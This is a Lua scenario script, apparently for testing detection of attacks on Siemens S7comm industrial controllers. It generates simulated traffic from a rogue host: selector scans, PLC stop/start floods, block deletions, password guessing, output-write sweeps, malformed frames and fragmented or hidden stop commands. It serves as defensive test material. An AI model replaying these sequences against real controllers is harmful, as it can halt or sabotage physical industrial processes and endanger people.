-- S7comm as attackers speak it: selectors tried out, controllers stopped and started without a pause, blocks deleted by the
-- dozen, passwords guessed, outputs written one by one, uploads that nobody ends, frames and counts that lie, commands hidden in
-- pieces and behind others.

local s7 = require "s7"
local cotp = require "cotp"

local w = ...
w:title "S7comm attacks: selectors tried, stop and start floods, deletions, guesses, sweeps of outputs, frames that lie"
w:duration "60s"

local stranger = w:host { name = "stranger", role = "unknown", ip = "10.7.3.99", vendor = "raspberry_pi", os = "linux" }
local plc = w:host { name = "plc", role = "plc", ip = "10.7.3.11", vendor = "siemens" }
local old = w:host { name = "plc-old", role = "plc", ip = "10.7.3.12", vendor = "siemens" }

local command, userdata, item = s7.command, s7.userdata, s7.item
local pack = string.pack

local REF <const> = 0x0e00 -- tools use the same reference for all they send

local function job(cmd, ref) return s7.frame(1, ref or REF, cmd[2], cmd[3]) end
local function answer(cmd, ref, class, code)
  return s7.frame(3, ref or REF, cmd[4], cmd[5], string.char(class or 0, code or 0))
end
local function data(tsdu) return cotp.tpkt("\2\xf0\x80" .. tsdu) end

-- Which slots answer, by whom they are called, and selectors that are none.
w:at(1, function()
  w:attack("s7_selector_scan", stranger, plc, {})
  for slot = 0, 5 do
    local link = s7.connect(w, { client = stranger, server = plc, slot = slot, refused = slot ~= 2 and 0x88 or nil })
    if slot == 2 then
      link:userdata(userdata.read_szl(0x0011, 0, s7.module_identification("6ES7 315-2EH14-0AB0", { 3, 2, 6 })))
      link:userdata(userdata.read_szl(0x001c, 0, s7.component_identification { { 1, "Line 4" }, { 5, "S C-X4U421302009" } }))
    end
    link:close()
    w:sleep(0.05)
  end
  for _, called in ipairs { "\3\0", "\2", "", "\1\2\3", ("A"):rep(32), "SIMATIC-ROOT-ES" } do
    s7.connect(w, { client = stranger, server = plc, called = called, refused = 3 }):close()
    w:sleep(0.05)
  end
end)

-- Stop and start with one reference, all in one segment; the controller answers some, in between refuses, and then none.
w:at(8, function()
  w:attack("s7_stop_flood", stranger, plc, { commands = 24 })
  local link = s7.connect(w, { client = stranger, server = plc })
  local stop, start = command.stop(), command.warm_start()
  for round = 1, 4 do
    local asked, said = {}, {}
    for i = 1, 6 do
      local cmd = i % 2 == 1 and stop or start
      asked[i] = data(job(cmd))
      if round < 4 then said[#said + 1] = data(answer(cmd, REF, i > 2 and 0xd4 or 0, i > 2 and 0x01 or 0)) end
    end
    link.tcp:send("client", table.concat(asked))
    w:sleep(0.01)
    if #said > 0 then link.tcp:send("server", table.concat(said)) end
    w:sleep(0.05)
  end
  link:close()
end)

-- Blocks: as many as fit into a PDU deleted at once, one by one, refused, and a count that says more than there is.
w:at(14, function()
  w:attack("s7_block_deletion", stranger, old, {})
  local link = s7.connect(w, { client = stranger, server = old, slot = 2 })
  local many = {}
  for n = 1, 40 do many[n] = { "DB", n } end
  link:ask(command.delete(many))
  for n = 1, 5 do link:ask(command.delete { { "FC", n } }) end
  link:ask(command.delete { { "OB", 1 } }, { fault = { 0xd2, 0x41 } })
  link:ask(command.invoke("_DELE", "\x09\0000C00001A"))
  -- uploads that are begun and never ended, more than anybody keeps
  for n = 1, 6 do link:ask(command.start_upload("FB", n, 300, n)) end
  link:ask(command.upload(6, ("\1"):rep(200), true))
  link:close()
end)

w:at(20, function()
  w:attack("s7_password_guessing", stranger, plc, { tries = 20 })
  local link = s7.connect(w, { client = stranger, server = plc })
  for n = 1, 20 do link:userdata(userdata.password(("%08d"):format(n)), { fault = 0xd602 }) end
  link:userdata(userdata.password "siemens")
  link:close()
end)

w:at(24, function()
  w:attack("s7_write_sweep", stranger, plc, {})
  local link = s7.connect(w, { client = stranger, server = plc })
  for byte = 0, 15 do link:ask(command.write { item("Q", "BYTE", 1, byte, { value = "\xff" }) }) end
  local all = {}
  for n = 1, 20 do all[n] = item("DB", "BYTE", 1, n, { db = 1, value = "\0", code = n % 4 == 0 and 0x05 or nil }) end
  link:ask(command.write(all))
  link:close()
end)

-- One connection for each, because a controller closes it: TPKT, COTP and S7 headers that lie.
w:at(28, function()
  local stop, read = command.stop(), command.read { item("M", "BYTE", 1, 0) }
  local function lied(bytes)
    local link = s7.connect(w, { client = stranger, server = old, no_setup = true })
    link.tcp:send("client", bytes)
    w:sleep(0.01)
    link:close("server")
    w:sleep(0.02)
  end
  lied(pack(">BBI2", 3, 0, 3) .. "\2\xf0\x80" .. job(stop)) -- shorter than its own head
  lied(pack(">BBI2", 3, 0, 0x4000) .. "\2\xf0\x80" .. job(stop)) -- longer than what comes
  lied(pack(">BBI2", 4, 0, 7 + #job(stop)) .. "\2\xf0\x80" .. job(stop)) -- another version
  lied(cotp.tpkt("\xff\xf0\x80" .. job(stop)))
  lied(cotp.tpkt("\0\xf0\x80" .. job(stop)))
  lied(data(pack(">BBI2I2I2I2", 0x32, 1, 0, REF, 0xffff, 0) .. stop[2]))
  lied(data(pack(">BBI2I2I2I2", 0x32, 1, 0, REF, 4, 0) .. stop[2])) -- parameters shorter than the function
  lied(data(pack(">BBI2I2I2I2", 0x32, 9, 0, REF, #stop[2], 0) .. stop[2]))
  lied(data(s7.frame(1, REF, "\4\xff" .. read[2]:sub(3), ""))) -- 255 variables, one there
  lied(data(s7.frame(1, REF, "\5\2" .. read[2]:sub(3), "\0\4\0\x08\xff"))) -- two to write, one there
  lied(data(s7.frame(1, REF, "\5\1" .. read[2]:sub(3), "\0\4\xff\xff\xff"))) -- a value longer than the PDU
  lied(data(s7.frame(1, REF, "\5\1" .. read[2]:sub(3), ""))) -- no value
  lied(data(s7.frame(7, REF, "\0\1\x12\xff\x11\x45\1\0", "\xff\9\0\8\0\0\0\0\0\0\0\0")))
end)

-- Commands in pieces: a byte a TPDU, a byte a segment; behind another in one message; behind a message that is no S7.
w:at(36, function()
  local stop, read = command.stop(), command.read { item("M", "BYTE", 1, 0) }
  local link = s7.connect(w, { client = stranger, server = plc })
  link:ask(stop, { request = { piece = 1 } })
  link:ask(stop, { request = { piece = 1, together = true }, response = { piece = 3 } })
  local bytes = data(job(stop, 0x0f00))
  for i = 1, #bytes do link.tcp:send("client", bytes:sub(i, i)) end
  w:sleep(0.01)
  link.tcp:send("server", data(answer(stop, 0x0f00)))
  w:sleep(0.01)
  link.tcp:send("client", data(job(read, 0x0f01) .. job(stop, 0x0f02))) -- the controller reads the first
  w:sleep(0.01)
  link.tcp:send("server", data(answer(read, 0x0f01)))
  link:close()
  local junk = s7.connect(w, { client = stranger, server = plc, no_setup = true })
  junk.tcp:send("client", data "GET / HTTP/1.0\r\n\r\n")
  w:sleep(0.01)
  junk:ask(stop)
  junk:close()
  -- an end of a message that nobody began, a message that never ends
  local half = s7.connect(w, { client = stranger, server = plc })
  half.tcp:send("client", cotp.tpkt("\2\xf0\0" .. job(stop, 0x0f03):sub(1, 9)))
  w:sleep(0.01)
  half:close()
end)

-- Answers that nobody asked for, the wrong one, one for two; a controller that stops another over the connection it was called on.
w:at(45, function()
  local stop, read = command.stop(), command.read { item("M", "BYTE", 1, 0) }
  local link = s7.connect(w, { client = stranger, server = plc })
  link.tcp:send("server", data(answer(stop, 0x1234)))
  w:sleep(0.01)
  link.tcp:send("client", data(job(stop, 0x1000)))
  w:sleep(0.01)
  link.tcp:send("server", data(answer(read, 0x1000)))
  w:sleep(0.01)
  link.tcp:send("client", data(job(stop, 0x1001)))
  w:sleep(0.01)
  link.tcp:send("server", data(answer(stop, 0x1001)) .. data(answer(stop, 0x1001)))
  w:sleep(0.01)
  link:ask(stop, { from = "server" })
  link:close()
end)
